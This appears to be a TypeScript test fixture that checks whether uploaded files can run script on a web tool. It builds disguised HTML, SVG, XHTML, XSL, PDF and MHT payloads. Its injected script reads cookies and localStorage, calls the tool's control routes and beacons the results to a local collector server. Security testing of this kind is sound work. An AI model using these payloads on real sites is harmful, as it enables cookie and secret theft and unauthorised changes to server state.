import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";

/** A file that a page of another origin uploads, and whether its script runs where nothing keeps it from that. */
export interface HostileFile {
  readonly name: string;
  /** The type that the uploader claims. */
  readonly type: string;
  readonly content: string | readonly number[];
  readonly runs?: true;
}

/** What a script says of itself: to the other origin in every way that there is, and what it could reach. */
export const hostileScript = (elsewhere: string): string => `(async () => {
  const say = (what) => {
    const text = location.pathname + location.search + " " + what;
    try { fetch("${elsewhere}/report?" + encodeURIComponent(text), { mode: "no-cors" }).catch(() => {}); } catch {}
    try { new Image().src = "${elsewhere}/report?" + encodeURIComponent(text); } catch {}
    for (const other of [globalThis.opener, globalThis.parent, globalThis.top]) try { other.postMessage(text, "*"); } catch {}
  };
  const attempt = async (what, work) => { try { say(what + ": " + await work()); } catch {} };
  say("ran");
  await attempt("storage", () => { localStorage.evil = "1"; return localStorage.secret; });
  await attempt("cookie", () => { document.cookie = "evil=1"; return document.cookie; });
  await attempt("opener", () => opener.location.href);
  await attempt("state", async () => (await (await fetch("/__touchstone/state")).text()).slice(0, 80));
  await attempt("rules", async () => (await fetch("/__touchstone/rules", {
    method: "POST", headers: { "content-type": "application/json" }, body: '{"respond":503}',
  })).status);
  await attempt("worker", () => navigator.serviceWorker.register(document.currentScript?.src ?? location.href));
  location = "${elsewhere}/report?" + encodeURIComponent(location.pathname + location.search + " went");
})();`;

const latin = (text: string): readonly number[] => [...new TextEncoder().encode(text)];

const utf16 = (text: string): readonly number[] => [255, 254, ...[...text].flatMap((c) => [c.charCodeAt(0), 0])];

/** Files that ask for the control routes and for a script, in every form that some browser would read. `script`: the address of the script. */
export const hostileFiles = (script: string, sheet: string): readonly HostileFile[] => {
  const asks =
    '<img src="/__touchstone/state"><iframe src="/__touchstone/state"></iframe><object data="/__touchstone/state"></object>' +
    '<link rel="stylesheet" href="/__touchstone/state"><meta http-equiv="refresh" content="0;url=/__touchstone/state">';
  const page = `<!doctype html><title>x</title>${asks}<body onload="import('${script}')"><script src="${script}"></script>`;
  const html = (name: string, type = "text/html"): HostileFile => ({ name, type, content: page });
  return [
    { ...html("page.html"), runs: true },
    html("page.HTM"),
    html("picture.png", "image/png"),
    html("named-otherwise.png"),
    html("text.txt", "text/plain"),
    html("no-extension"),
    html("no-type", ""),
    { name: "spaced", type: "text/html", content: `\ufeff \n<!-- a --> ${page}` },
    { name: "wide.html", type: "text/html", content: utf16(page) },
    {
      name: "drawing.svg",
      type: "image/svg+xml",
      content:
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="import('${script}')">` +
        `<image href="/__touchstone/state"/><script href="${script}"/><script xlink:href="${script}"/></svg>`,
      runs: true,
    },
    {
      name: "styled.xml",
      type: "text/xml",
      content: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${sheet}"?><a/>`,
    },
    {
      name: "strict.xhtml",
      type: "application/xhtml+xml",
      content: `<html xmlns="http://www.w3.org/1999/xhtml"><head><script src="${script}"></script></head><body/></html>`,
    },
    {
      name: "named.xml",
      type: "text/xml",
      content: `<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script src="${script}"/></x:html>`,
      runs: true,
    },
    { name: "paper.pdf", type: "application/pdf", content: latin(paper) },
    {
      name: "kept.mht",
      type: "multipart/related",
      content:
        "From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n" +
        `Content-Type: text/html\r\nContent-Location: http://127.0.0.1/\r\n\r\n${page}\r\n--b--\r\n`,
    },
    { name: "code.js", type: "text/javascript", content: "postMessage('ran')" },
  ];
};

/** What makes a page with a script of any XML document. */
export const hostileSheet = (script: string): string =>
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">' +
  `<html><body><script src="${script}"></script></body></html></xsl:template></xsl:stylesheet>`;

const paper =
  "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(/__touchstone/state)>>>>endobj\n" +
  "2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n";

/** A server of another origin: it has an empty page that passes on what it is sent, copies of hostile files, and notes every report. */
export interface Elsewhere {
  readonly url: string;
  readonly reports: string[];
  /** All requests that it answered: `200 /`. */
  readonly asked: string[];
  /** Serves a file as it is, with nothing that would keep it from running. */
  copy(path: string, type: string, content: string | readonly number[]): void;
  close(): Promise<void>;
}

/** See {@link Elsewhere}. */
export const openElsewhere = async (): Promise<Elsewhere> => {
  const reports: string[] = [];
  const asked: string[] = [];
  const copies = new Map<string, { readonly type: string; readonly bytes: Buffer }>();
  const listener = `<!doctype html><title>elsewhere</title><script>
    addEventListener("message", ({ data }) => fetch("/report?" + encodeURIComponent(data)));</script>`;
  copies.set("/", { type: "text/html", bytes: Buffer.from(listener) });
  const server: Server = createServer((request, response) => {
    const [path = "", search = ""] = (request.url ?? "/").split("?");
    if (path === "/report") reports.push(decodeURIComponent(search));
    const found = copies.get(path);
    const status = found === undefined ? 404 : 200;
    asked.push(`${status} ${request.url}`);
    response.writeHead(status, { "content-type": found?.type ?? "text/plain" });
    response.end(found?.bytes);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  // A server that listens at a port has an address object.
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://localhost:${port}`,
    reports,
    asked,
    copy: (path, type, content) =>
      copies.set(path, { type, bytes: typeof content === "string" ? Buffer.from(content) : Buffer.from(content) }),
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
};
